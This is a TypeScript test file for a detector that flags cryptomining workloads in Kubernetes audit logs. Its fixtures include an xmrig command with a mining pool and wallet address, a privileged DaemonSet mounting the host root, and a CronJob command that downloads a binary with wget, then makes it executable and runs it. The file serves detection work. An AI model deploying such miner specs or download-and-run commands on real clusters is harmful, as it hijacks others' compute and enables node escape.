import { test } from "node:test";
import assert from "node:assert/strict";
import type { Event } from "../../../model/index.js";
import { runDetector } from "../../../test-helpers/index.js";
import { k8sWorkload } from "./k8s-workload.js";

/**
 * Kubernetes audit events (audit.k8s.io/v1 Event, stage ResponseComplete) as the audit source emits
 * them (docs/events.md "Containers and Kubernetes"): verb → event.action, objectRef → orchestrator.*,
 * every container image and command+args of the submitted spec → container.image.name /
 * process.command_line arrays, responseStatus.code → http.response.status_code.
 */
let line = 0;
function audit(verb: string, resource: string, name: string, spec: { images: string[]; commands?: string[]; privileged?: boolean; hostPaths?: string[] }, over: Event = {}): Event {
  const e: Event = {
    "@timestamp": "2026-11-20T03:14:07.123456Z",
    "event.dataset": "kubernetes.audit",
    "event.kind": "event",
    "event.category": ["configuration"],
    "event.action": verb,
    "event.outcome": "success",
    "event.id": `6f1d2c3b-4a59-4e8f-9d7c-${String(++line).padStart(12, "0")}`,
    "orchestrator.resource.type": resource,
    "orchestrator.resource.name": name,
    "orchestrator.namespace": "kube-system",
    "orchestrator.cluster.name": "prod-eks-1",
    "user.name": "system:anonymous",
    "source.ip": "198.51.100.23",
    "user_agent.original": "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
    "http.response.status_code": 201,
    "container.image.name": spec.images,
    "process.command_line": spec.commands ?? [],
    "minerhunt.k8s.privileged": spec.privileged ?? false,
    "minerhunt.k8s.host_path": spec.hostPaths ?? [],
    "log.file.path": "/var/log/kubernetes/audit/audit.log",
    "minerhunt.line": line,
    "minerhunt.format": "kubernetes.audit",
    ...over,
  };
  return e;
}

const XMRIG_ARGS = "xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --donate-level 1";

test("routes the Kubernetes audit log only", () => {
  assert.deepEqual(k8sWorkload.routes, { datasets: ["kubernetes.audit"] });
});

test("a privileged DaemonSet running xmrig with the node's / mounted: the strongest finding", () => {
  const [f, ...rest] = runDetector(k8sWorkload, [audit("create", "daemonsets", "kube-node-agent", {
    images: ["docker.io/xmrig/xmrig:6.21.0"], commands: [XMRIG_ARGS], privileged: true, hostPaths: ["/"],
  })]);
  assert.equal(rest.length, 0);
  assert.ok(f);
  assert.equal(f.trigger, "container");
  assert.equal(f.confidence, 0.9);
  assert.equal(f.severity, "critical");
  assert.match(f.title, /^daemonset kube-system\/kube-node-agent runs a miner \(image docker\.io\/xmrig\/xmrig:6\.21\.0, miner xmrig, stratum\+tcp:\/\/, --donate-level\)/);
  assert.equal(f.facts?.["k8s.privileged"], true);
  assert.equal(f.facts?.["k8s.host_path_root"], true);
  assert.ok(f.tags?.includes("node-escape"));
  assert.deepEqual(f.entities.clusters, ["prod-eks-1"]);
  assert.deepEqual(f.entities.namespaces, ["kube-system"]);
  assert.deepEqual(f.entities.pods, ["kube-node-agent"], "the workload name stands for its pods");
  assert.deepEqual(f.entities.users, ["system:anonymous"]);
  assert.deepEqual(f.entities.images, ["docker.io/xmrig/xmrig:6.21.0"]);
  assert.ok(f.observables.some((o) => o.type === "image" && o.value === "docker.io/xmrig/xmrig:6.21.0"));
  assert.ok(f.observables.some((o) => o.type === "command-line" && o.value === XMRIG_ARGS));
  assert.match(f.description ?? "", /system:anonymous created daemonset kube-node-agent in namespace kube-system of cluster prod-eks-1/);
  assert.equal(f.evidence[0]!.file, "/var/log/kubernetes/audit/audit.log");
  assert.match(f.evidence[0]!.summary!, /^create daemonsets kube-system\/kube-node-agent by system:anonymous/);
});

test("a CronJob whose innocent image downloads and runs a miner: found by its command", () => {
  const [f] = runDetector(k8sWorkload, [audit("create", "cronjobs", "log-rotate", {
    images: ["alpine:3.19"],
    commands: ["/bin/sh -c wget -qO /tmp/kdevtmpfsi http://203.0.113.5/kdevtmpfsi && chmod +x /tmp/kdevtmpfsi && /tmp/kdevtmpfsi"],
  }, { "orchestrator.namespace": "default" })]);
  assert.ok(f);
  assert.equal(f.confidence, 0.9);
  assert.equal(f.facts?.["miner.signs"], "campaign name kdevtmpfsi");
  assert.equal(f.facts?.["miner.images"], undefined);
});

test("a Deployment, its ReplicaSet and its Pods are one finding, titled by the strongest record", () => {
  const spec = { images: ["metal3d/xmrig:latest"], commands: [] };
  const events = [
    audit("create", "pods", "web-cache-6c9f7b8d4-abcde", spec, { "user.name": "system:serviceaccount:kube-system:replicaset-controller", "orchestrator.namespace": "default" }),
    audit("create", "deployments", "web-cache", spec, { "user.name": "dev-ci", "orchestrator.namespace": "default" }),
    audit("create", "replicasets", "web-cache-6c9f7b8d4", spec, { "user.name": "system:serviceaccount:kube-system:deployment-controller", "orchestrator.namespace": "default" }),
    audit("create", "pods", "web-cache-6c9f7b8d4-fghij", spec, { "user.name": "system:serviceaccount:kube-system:replicaset-controller", "orchestrator.namespace": "default" }),
  ];
  const findings = runDetector(k8sWorkload, events);
  assert.equal(findings.length, 1);
  const f = findings[0]!;
  assert.equal(f.evidenceCount, 4);
  assert.equal(f.confidence, 0.85);
  assert.match(f.title, /^deployment default\/web-cache runs a miner \(image metal3d\/xmrig:latest\)$/);
  assert.match(f.evidence[0]!.summary!, /^create pods/, "evidence stays in input order");
  assert.ok(f.entities.users?.includes("dev-ci"));
  assert.deepEqual([...f.entities.pods!].sort(), ["web-cache", "web-cache-6c9f7b8d4", "web-cache-6c9f7b8d4-abcde", "web-cache-6c9f7b8d4-fghij"]);
  // Another namespace is another finding.
  const elsewhere = audit("create", "deployments", "web-cache", spec, { "orchestrator.namespace": "staging" });
  assert.equal(runDetector(k8sWorkload, [...events, elsewhere]).length, 2);
});

test("a refused request is weaker; a later successful one restores the confidence", () => {
  const denied = audit("create", "deployments", "miner", { images: ["xmrig/xmrig"] }, {
    "event.outcome": "failure", "http.response.status_code": 403, "user.name": "system:anonymous",
  });
  const [f] = runDetector(k8sWorkload, [denied]);
  assert.ok(f);
  assert.equal(f.confidence, 0.6);
  assert.equal(f.severity, "medium");
  assert.match(f.title, /^Refused: /);
  assert.equal(f.facts?.["k8s.refused"], true);

  const ok = audit("create", "deployments", "miner", { images: ["xmrig/xmrig"] });
  const both = runDetector(k8sWorkload, [denied, ok]);
  assert.equal(both.length, 1);
  assert.equal(both[0]!.confidence, 0.85);
});

test("patches that set a miner image count", () => {
  const [f] = runDetector(k8sWorkload, [audit("patch", "deployments", "frontend", { images: ["ghcr.io/acme/frontend:2.3", "pmietlicki/monero-miner"] }, { "orchestrator.namespace": "prod" })]);
  assert.ok(f);
  assert.equal(f.facts?.["miner.images"], "pmietlicki/monero-miner");
  assert.equal(f.facts?.["k8s.verb"], "patch");
});

test("traps: nginx, an xmrig exporter, deletes and reads of miners, other resources", () => {
  const none = runDetector(k8sWorkload, [
    audit("create", "deployments", "nginx", { images: ["nginx:1.25.4"], commands: ["nginx -g daemon off;"] }, { "orchestrator.namespace": "web" }),
    // Decision: an exporter image that reads a miner's API is not a miner by name (see k8s-workload.ts).
    audit("create", "deployments", "xmrig-exporter", { images: ["someuser/xmrig-exporter:0.4"], commands: ["/xmrig-exporter --url http://xmrig-api:8080/2/summary"] }),
    audit("delete", "daemonsets", "kube-node-agent", { images: [] }),
    audit("get", "pods", "miner-abc", { images: ["xmrig/xmrig"] }),
    audit("create", "configmaps", "xmrig-config", { images: ["xmrig/xmrig"] }),
    audit("create", "pods", "metrics", { images: ["prom/node-exporter:v1.7.0"], commands: ["--path.rootfs=/host"] }),
  ]);
  assert.deepEqual(none.map((f) => f.title), []);
  // ...but an exporter whose arguments carry a pool URL is caught by the command.
  const disguised = runDetector(k8sWorkload, [audit("create", "deployments", "xmrig-exporter", { images: ["someuser/xmrig-exporter:0.4"], commands: ["/xmrig-exporter -o stratum+tcp://pool.hashvault.pro:3333"] })]);
  assert.equal(disguised.length, 1);
});

test("a successful pod outranks a refused deployment in the same group", () => {
  const spec = { images: ["xmrig/xmrig"] };
  const findings = runDetector(k8sWorkload, [
    audit("create", "deployments", "miner", spec, { "event.outcome": "failure", "http.response.status_code": 403 }),
    audit("create", "pods", "miner-pod", spec),
  ]);
  assert.equal(findings.length, 1);
  assert.equal(findings[0]!.confidence, 0.85);
  assert.match(findings[0]!.title, /^pod kube-system\/miner-pod/);
});
